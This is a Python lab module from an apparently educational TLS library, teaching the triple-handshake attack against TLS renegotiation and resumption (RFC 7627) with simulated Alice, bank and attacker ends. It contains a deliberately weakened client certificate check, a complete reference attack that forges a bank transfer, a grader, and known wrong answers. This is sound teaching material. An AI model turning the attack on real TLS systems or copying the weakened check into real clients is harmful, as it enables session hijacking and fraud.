"""Lab 9: three handshakes, after which a server takes what an attacker sent for what its client sent (RFC 7627 1).

The weak ends know no extended master secret, and the weak client takes another server's certificate in a renegotiation and does not look
at the name in it again, as browsers did until 2014.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import replace
from typing import Any, TypeVar, cast

from puretls import danger, schedule
from puretls.config import ServerConfig
from puretls.connection import Connection
from puretls.crypto.groups import RandomBytes
from puretls.crypto.keys import RsaPrivateKey
from puretls.errors import UsageError
from puretls.extensions import ExtendedMasterSecret
from puretls.handshake import client
from puretls.handshake.context import ClientContext
from puretls.handshake.effects import Step
from puretls.handshake.states import ClientState
from puretls.handshake.table import CLIENT, input_key, row
from puretls.iana import HandshakeType
from puretls.intercept import Direction, Interceptor, Where
from puretls.labs.ends import End, Keys, common_name, endings, octets, one_record, relay
from puretls.labs.grading import Verdict
from puretls.labs.lab import Lab, Scene, Wrong
from puretls.labs.stage import Seeded, credential, provider, suite, verifier
from puretls.messages.handshake import Certificate, ClientHello, ServerHello
from puretls.session import MemorySessionStore
from puretls.wire.schema import Struct

C = ClientState
E = TypeVar("E", bound=End)
RSA = "TLS_RSA_WITH_AES_128_GCM_SHA256"
ALICE, MALLORY = "alice", "mallory.example"
ORDER = b"POST /transfer?to=mallory HTTP/1.1\r\n\r\n"


# The weakness


def _takes_another_server(context: ClientContext, message: Certificate) -> Step:
    """In a renegotiation: any certificate of an authority that is trusted, whoever the first one was for."""
    step = client.on_certificate(context.evolve(established=None), message)
    if context.established is None:
        return step
    return step._replace(context=step.context.evolve(established=context.established, server_name=None))


_CLIENT_ROWS = tuple(
    row(line.state, Certificate, _takes_another_server, *line.next_states)
    for line in CLIENT
    if input_key(line.input) == input_key(Certificate)
)


# The peer


class Peer:
    """Alice, her bank, and the site of Mallory, which she visits. You are Mallory.

    `alice()` is a connection of hers to your site; the second one resumes the session of the first. `bank()` is a connection to the bank.
    Both give ends with `take()`, which gives records, and `give(*records)`. The bank takes "POST /transfer?to=NAME" from anybody, asks for
    a certificate by a renegotiation, and then does it in the name of who showed one. Alice has a certificate, and shows it when asked.
    """

    def __init__(self, seed: int, fixed: bool) -> None:
        self._weak = not fixed
        self._seeded = Seeded("triple handshake", seed)
        self._sessions, self._banks_sessions = MemorySessionStore(), MemorySessionStore()
        self.orders: list[tuple[str, bytes]] = []
        """What the bank has done: in whose name, and what the request was."""
        self.ends: list[End] = []
        """Every end so far, for who looks into what happened."""

    def _fields(self) -> dict[str, Any]:
        secret = ExtendedMasterSecret(enabled=False) if self._weak else ExtendedMasterSecret(required=True)
        return {"suites": (suite(RSA),), "extensions": (secret,)}

    def _kept(self, end: E) -> E:
        self.ends.append(end)
        return end

    def alice(self) -> End:
        """Alice connects to your site. Once she has resumed a session she asks for its front page."""
        own = {"credentials": (credential(name=ALICE, usage="client"),), "tickets": False, "session_store": self._sessions}
        connection = self._seeded.client(len(self.ends), MALLORY, renegotiation=True, **self._fields(), **own)
        if self._weak:
            danger.add_rows(connection, *_CLIENT_ROWS)
        return self._kept(End("Alice", connection, _visit))

    def bank(self) -> End:
        """A connection to the bank."""
        own = {"credentials": (credential("rsa2048"),), "verifier": verifier(), "session_cache": self._banks_sessions}
        connection = self._seeded.server(len(self.ends), renegotiation=True, **self._fields(), **own)
        return self._kept(End("the bank", connection, _Bank(self.orders)))

    # What Mallory has

    def client(self, client_random: bytes) -> MalloryClient:
        """Your TLS client, which says this random in its hello. Set its `premaster` before it gets the ServerHelloDone."""
        premaster = _Premaster(self._seeded.random(f"mallory {len(self.ends)}"))
        says = _Says(ClientHello, random=octets("client_random", client_random, 32))
        own = {"verifier": danger.accept_any_chain, "tickets": False, "interceptors": (says,), "random": premaster}
        connection = self._seeded.client(len(self.ends), MALLORY, **self._fields(), **own)
        return self._kept(MalloryClient(connection, premaster))

    def server(self, server_random: bytes, session_id: bytes) -> End:
        """Your TLS server, with your certificate; its ServerHello says this random and this session id."""
        if len(octets("session_id", session_id)) > 32:
            raise UsageError("session_id: 32 bytes are the most (RFC 5246 7.4.1.3)")
        says = _Says(ServerHello, random=octets("server_random", server_random, 32), session_id=session_id)
        own = {"credentials": (credential("rsa2048", MALLORY),), "interceptors": (says,)}
        return self._kept(End("your server", self._seeded.server(len(self.ends), **self._fields(), **own)))

    def decrypt(self, key_exchange: bytes) -> bytes:
        """The premaster secret in a ClientKeyExchange (its record) that was sent to your server: you have its private key."""
        key = credential("rsa2048", MALLORY).key
        assert isinstance(key, RsaPrivateKey)
        message = one_record(key_exchange).fragment
        if message[:1] != bytes((HandshakeType.CLIENT_KEY_EXCHANGE,)):
            raise UsageError("this record holds no ClientKeyExchange in the clear")
        number = int.from_bytes(message[4 + 2 :])
        return provider().rsa_private(key, number % key.public.n, self._seeded.random("blinding")).to_bytes(256)[-48:]

    def keys(self, premaster: bytes, randoms_of_the_master: tuple[bytes, bytes], randoms: tuple[bytes, bytes]) -> Keys:
        """The keys of a connection with these `randoms` (client's, server's), whose master secret was made with others.

        `.client` is for what the client sends: `seal(content_type, data)` gives a record. It counts from 0; `sequence` may be set.
        """
        chosen = suite(RSA)
        for what, pair in (("randoms_of_the_master", randoms_of_the_master), ("randoms", randoms)):
            if not isinstance(pair, tuple) or len(pair) != 2:
                raise UsageError(f"{what} are a pair: the client's random and the server's")
        secret = octets("premaster", premaster, 48)
        return Keys(chosen, schedule.master_secret(provider().prf, chosen.prf_hash, secret, *randoms_of_the_master), *randoms)


def _visit(connection: Connection, data: bytes) -> None:
    if not data and connection.session is not None and connection.negotiated is not None and connection.negotiated.resumed:
        connection.send(b"GET / HTTP/1.1\r\n\r\n")


class _Bank:
    """The application of one connection to the bank."""

    def __init__(self, orders: list[tuple[str, bytes]]) -> None:
        self._orders = orders
        self._waiting = b""

    def __call__(self, connection: Connection, data: bytes) -> None:
        if data.startswith(b"POST /transfer"):
            self._waiting = data
            connection.change_config(replace(cast("ServerConfig", connection.config), client_authentication="require"))
            connection.renegotiate()
        elif not data and self._waiting and connection.peer_certificates:
            self._orders.append((common_name(connection.peer_certificates[0]), self._waiting))
            connection.send(b"HTTP/1.1 200 Done\r\n\r\n")


class _Says(Interceptor):
    """Changes fields of one message on its way out."""

    def __init__(self, kind: type[ClientHello] | type[ServerHello], **fields: Any) -> None:
        self._kind, self._fields = kind, fields

    def message(self, message: Struct, where: Where) -> Iterable[Struct]:
        if where.direction is Direction.OUTBOUND and isinstance(message, self._kind):
            message = replace(message, **self._fields)
        return (message,)


class _Premaster:
    """Entropy, but for the one call of 46 bytes: that is for the premaster secret, behind its version (RFC 5246 7.4.7.1)."""

    def __init__(self, draw: RandomBytes) -> None:
        self._draw = draw
        self.chosen = b""

    def __call__(self, count: int) -> bytes:
        return self.chosen[2:] if count == 46 and self.chosen else self._draw(count)


class MalloryClient(End):
    """A TLS client that can send a premaster secret of somebody else's choice."""

    def __init__(self, connection: Connection, premaster: _Premaster) -> None:
        self._premaster = premaster
        super().__init__("your client", connection)

    @property
    def premaster(self) -> bytes:
        """48 bytes; b"" where it draws one itself."""
        return self._premaster.chosen

    @premaster.setter
    def premaster(self, chosen: bytes) -> None:
        self._premaster.chosen = octets("premaster", chosen, 48)


def check(peer: Peer, answer: object) -> Verdict:
    """What the bank did."""
    if (ALICE, ORDER) in peer.orders:
        return Verdict(True, ("the bank did in Alice's name what you had sent.",))
    if peer.orders:
        name, request = peer.orders[-1]
        return Verdict(
            False, (f"the bank did something in the name of {name}, but not {ORDER.decode().strip()!r}: {request[:60]!r}",)
        )
    nothing = f"the bank did nothing: it has to do {ORDER.decode().strip()!r} in the name of Alice."
    return Verdict(False, (nothing, *endings(peer.ends)))


# The reference attack


def attack(peer: Peer) -> None:
    """One premaster secret and the same randoms on two connections; then they are one."""
    # First handshake: between Alice and you, and between you and the bank, with everything that the master secret is made of alike.
    alice, bank = peer.alice(), peer.bank()
    (hello,) = alice.take(1)
    me = peer.client(client_random=hello[11:43])
    bank.give(*me.take())
    flight = bank.take(3)
    first = hello[11:43], flight[0][11:43]
    site = peer.server(server_random=first[1], session_id=flight[0][44 : 44 + flight[0][43]])
    site.give(hello)
    alice.give(*site.take())
    answer = alice.take(3)
    premaster = me.premaster = peer.decrypt(answer[0])
    site.give(*answer)
    alice.give(*site.take())
    me.give(*flight)
    relay(me, bank)

    # Second handshake: Alice resumes, and you carry it to the bank. Both ends have one session now, and the same Finished.
    alice, bank = peer.alice(), peer.bank()
    (hello,) = alice.take(1)
    bank.give(hello)
    flight = bank.take(3)
    alice.give(*flight)
    change, finished, _request = alice.take(3)

    # You know its keys: in the place of what Alice asks for comes your order. For the third handshake nothing is left to be done.
    keys = peer.keys(premaster, first, (hello[11:43], flight[0][11:43]))
    keys.client.sequence = 1
    bank.give(change, finished, keys.client.seal(23, ORDER))
    relay(alice, bank)


# Wrong answers


def _no_session(peer: Peer) -> None:
    """Only the relay, without a first handshake of yours."""
    relay(peer.alice(), peer.bank())
    relay(peer.alice(), peer.bank())


def _own_premaster(peer: Peer) -> None:
    alice, bank = peer.alice(), peer.bank()
    (hello,) = alice.take(1)
    me = peer.client(client_random=hello[11:43])
    bank.give(*me.take())
    flight = bank.take(3)
    site = peer.server(server_random=flight[0][11:43], session_id=flight[0][44 : 44 + flight[0][43]])
    site.give(hello)
    relay(alice, site)
    me.give(*flight)
    relay(me, bank)
    relay(peer.alice(), peer.bank())


def _on_the_first_connection(peer: Peer) -> None:
    """The order on a connection of Mallory's own."""
    me, bank = peer.client(client_random=bytes(32)), peer.bank()
    relay(me, bank)
    me.send(ORDER)
    relay(me, bank)


_TITLES = {
    "First handshake, between Alice and you": "Your ServerHello says the random and the session id of the bank's.",
    "First handshake, between you and the bank": "Your ClientHello says Alice's random, and the premaster secret is hers.",
    "Second and third handshake, as Alice sees them": "She resumes the session with your site, asks for its front page, and is asked for a "
    "certificate. The server's certificate is the bank's, by now.",
    "The same, as the bank sees them": "It resumes the session with you. Your order comes in place of Alice's request.",
}


def scenes(peer: Peer, answer: object) -> Iterable[Scene]:
    """What each end saw, and what the bank has done."""
    first_alice, first_bank, *_, second_alice, second_bank = peer.ends
    for (title, text), end in zip(_TITLES.items(), (first_alice, first_bank, second_alice, second_bank), strict=True):
        yield Scene(title, text, conversation=end.conversation())
    done = (f"in the name of {name}: {request.decode().strip()}" for name, request in peer.orders)
    yield Scene("What the bank has done", lines=tuple(done))


LAB = Lab(
    number=9,
    name="triple-handshake",
    title="Triple handshake",
    rfc=("7627 1", "7627 5.3", "7627 5.4"),
    peer=Peer,
    reference=attack,
    check=check,
    wrong=(
        Wrong("nothing but carrying", _no_session, "Alice refuses the certificate of the bank: it is not that of your site"),
        Wrong(
            "two premaster secrets",
            _own_premaster,
            "the two sessions have different master secrets: the resumption fails at Finished",
        ),
        Wrong("the order on a connection of your own", _on_the_first_connection, "nobody shows a certificate there"),
    ),
    scenes=scenes,
)
